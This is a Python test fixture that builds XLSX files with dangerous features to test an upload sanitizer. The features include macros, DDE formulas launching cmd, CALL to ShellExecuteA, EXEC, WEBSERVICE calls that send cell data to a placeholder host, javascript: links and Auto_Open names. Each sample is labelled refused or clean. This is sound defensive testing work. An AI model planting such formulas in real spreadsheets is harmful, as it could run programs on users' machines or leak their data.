"""Workbooks (XLSX) with macros, links to elsewhere, formulas that start programs."""

# ruff: noqa: E501  parts of packages stand on one line, as programs write them

import random

from tests.rabatplatform.files.corpus.packages import HEAD, OFFICE, VML, R, S, office_parts, override, packed, relation, relations
from tests.rabatplatform.files.corpus.sample import CLEAN, MARK, REFUSED, SEEN, samples

MAIN, KIND = "xl/workbook.xml", OFFICE + "spreadsheetml.sheet.main+xml"
SHEET = "xl/worksheets/sheet1.xml"
SHEET_KIND = OFFICE + "spreadsheetml.worksheet+xml"
MS = "http://schemas.microsoft.com/office/2006/relationships"


def xlsx(*, cells="", more="", names="", kind=KIND, lines="", sheet_lines="", more_types="", parts=None, before=""):
    def make():
        sheet = f'{HEAD}<worksheet xmlns="{S}" xmlns:r="{R}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{SEEN}</t></is></c>{cells}</row></sheetData>{more}</worksheet>'
        book = f'{HEAD}<workbook xmlns="{S}" xmlns:r="{R}">{before}<sheets><sheet name="One" sheetId="1" r:id="rId1"/></sheets>{names}</workbook>'
        return packed(
            office_parts(
                MAIN,
                kind,
                book,
                lines=relation("rId1", "worksheet", "worksheets/sheet1.xml") + lines,
                more_types=override(SHEET, SHEET_KIND) + more_types,
                parts={SHEET: sheet, "xl/worksheets/_rels/sheet1.xml.rels": relations(sheet_lines), **(parts or {})},
            )
        )

    return make


def formula(text):
    return xlsx(cells=f'<c r="B1"><f>{text}</f><v>0</v></c>')


def book_part(name, word, content="<a/>", base=R, **more):
    return xlsx(lines=relation("rId9", word, name.removeprefix("xl/"), base=base), parts={name: content}, **more)


def sheet_part(name, word, content="<a/>", **more):
    return xlsx(sheet_lines=relation("rId9", word, "../" + name.removeprefix("xl/")), parts={name: content}, **more)


MACROS = {
    "XLSM called XLSX": xlsx(kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "XLSB called XLSX": xlsx(kind="application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
    "add-in": xlsx(kind="application/vnd.ms-excel.addin.macroEnabled.main+xml"),
    "vbaProject": book_part("xl/vbaProject.bin", "vbaProject", b"x", MS),
    "macro sheet": book_part("xl/macrosheets/sheet2.xml", "xlMacrosheet", f"<a>{MARK}</a>", MS),
    "macro sheet of another name": book_part("xl/worksheets/sheet2.xml", "xlMacrosheet", f"<a>{MARK}</a>", MS),
    "macro sheet by type": book_part(
        "xl/worksheets/sheet2.xml",
        "worksheet",
        more_types=override("xl/worksheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml"),
    ),
    "international macro sheet": book_part("xl/worksheets/sheet2.xml", "xlIntlMacrosheet", base=MS),
    "dialog sheet": book_part("xl/dialogsheets/sheet1.xml", "dialogsheet"),
}
OUTSIDE = {
    "another workbook": book_part(
        "xl/externalLinks/externalLink1.xml", "externalLink", f'<externalLink xmlns="{S}"><externalBook/></externalLink>'
    ),
    "DDE link": book_part(
        "xl/externalLinks/externalLink1.xml",
        "externalLink",
        f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="{MARK}"/></externalLink>',
    ),
    "OLE link": xlsx(more=f'<oleLink r:id="rId9" progId="{MARK}"/>'),
    "connections": book_part(
        "xl/connections.xml", "connections", f'<connections xmlns="{S}"><connection name="{MARK}"/></connections>'
    ),
    "query": sheet_part("xl/queryTables/queryTable1.xml", "queryTable"),
    "live data": book_part("xl/volatileDependencies.xml", "volatileDependencies"),
}
EMBEDDED = {
    "OLE object": sheet_part("xl/embeddings/oleObject1.bin", "oleObject", b"\xd0\xcf\x11\xe0"),
    "embedded text": sheet_part("xl/embeddings/a.docx", "package", b"PK"),
    "ActiveX": sheet_part("xl/activeX/activeX1.xml", "control"),
    "data model": book_part("xl/model/item.data", "powerPivotData", b"x"),
}
VML_PART = (
    f'<xml {VML}><v:shape id="a" href="javascript:{MARK}"><v:fill src="file:///{MARK}" o:relid="rId7"/><br></v:shape></xml>'
)
COMMENTS = f'<comments xmlns="{S}"><authors><author>{MARK}</author></authors><commentList><comment ref="A1" authorId="0"><text><t>c</t></text></comment></commentList></comments>'
PIVOT = f'<pivotCacheDefinition xmlns="{S}" refreshedBy="{MARK}"><cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="One"/></cacheSource></pivotCacheDefinition>'
HIDDEN = {
    "DDE formula": formula(f"cmd|'/c {MARK}'!A0"),
    "DDE formula with a function": formula(f"1+MSEXCEL|'\\\\{MARK}'!''"),
    "WEBSERVICE": formula(f'WEBSERVICE("https://{MARK}.example/"&amp;A1)'),
    "WEBSERVICE with its prefix": formula(f'_xlfn.WEBSERVICE("https://{MARK}.example/")'),
    "IMAGE": formula(f'_xlfn.IMAGE("https://{MARK}.example/a.png")'),
    "RTD": formula(f'RTD("{MARK}",,"x")'),
    "CALL": formula(f'CALL("Shell32","ShellExecuteA","{MARK}")'),
    "EXEC": formula(f'EXEC("{MARK}")'),
    "HYPERLINK to a file": formula(f'HYPERLINK("file:///{MARK}","x")'),
    "HYPERLINK to a share": formula(f'hyperlink("\\\\{MARK}\\a","x")'),
    "formula of a rule": xlsx(
        more=f'<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>cmd|"{MARK}"!A1</formula></cfRule></conditionalFormatting>'.replace(
            '"' + MARK + '"', f"'{MARK}'"
        )
    ),
    "name that runs": xlsx(
        names=f'<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">{MARK}!A1</definedName><definedName name="a" xlm="1" function="1">{MARK}</definedName></definedNames>'
    ),
    "path and people": xlsx(before=f'<fileSharing userName="{MARK}"/><x15ac:absPath xmlns:x15ac="x" url="C:\\Users\\{MARK}"/>'),
    "views of people": xlsx(names=f'<customWorkbookViews><customWorkbookView name="{MARK}" guid="x"/></customWorkbookViews>'),
    "comments": sheet_part(
        "xl/comments1.xml", "comments", COMMENTS, more_types=override("xl/comments1.xml", OFFICE + "spreadsheetml.comments+xml")
    ),
    "old drawing": sheet_part("xl/drawings/vmlDrawing1.vml", "vmlDrawing", VML_PART, more='<legacyDrawing r:id="rId9"/>'),
    "pivot": book_part(
        "xl/pivotCache/pivotCacheDefinition1.xml",
        "pivotCacheDefinition",
        PIVOT,
        more_types=override("xl/pivotCache/pivotCacheDefinition1.xml", OFFICE + "spreadsheetml.pivotCacheDefinition+xml"),
    ),
    "printer": sheet_part(
        "xl/printerSettings/printerSettings1.bin",
        "printerSettings",
        f"\\\\{MARK}",
        more='<pageSetup orientation="portrait" r:id="rId9"/>',
    ),
    "calculation chain": book_part("xl/calcChain.xml", "calcChain", f"<a>{MARK}</a>"),
    "XML maps": book_part("xl/xmlMaps.xml", "xmlMaps", f"<a>{MARK}</a>"),
    "revisions": book_part("xl/revisions/revisionHeaders.xml", "revisionHeaders", f'<a userName="{MARK}"/>'),
    "people of threads": book_part("xl/persons/person.xml", "person", f'<a displayName="{MARK}"/>'),
    "link with a script": xlsx(
        more='<hyperlinks><hyperlink ref="A1" r:id="rId9"/></hyperlinks>',
        sheet_lines=relation("rId9", "hyperlink", f"javascript:{MARK}", outside=True),
    ),
    "shape with a macro": sheet_part(
        "xl/drawings/drawing1.xml",
        "drawing",
        f'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><xdr:sp macro="[0]!{MARK}"/></xdr:wsDr>',
        more='<drawing r:id="rId9"/>',
        more_types=override("xl/drawings/drawing1.xml", OFFICE + "drawing+xml"),
    ),
}


def hidden_rows():
    """A quarter of a million cells: within every limit of size, and much work."""
    chance = random.Random(7)
    return xlsx(cells="".join(f'<c r="A{n}"><v>{chance.random()}</v></c>' for n in range(250_000)))()


NAME = {"name": "table.xlsx"}
SAMPLES = [
    *samples("XLSX", REFUSED, MACROS, **NAME),
    *samples("XLSX", REFUSED, OUTSIDE, code="file_outside", **NAME),
    *samples("XLSX", REFUSED, EMBEDDED, code="file_embedded", **NAME),
    *samples("XLSX", CLEAN, HIDDEN, sees=True, **NAME),
    *samples("XLSX", CLEAN, {"a quarter of a million cells": hidden_rows}, **NAME),
]
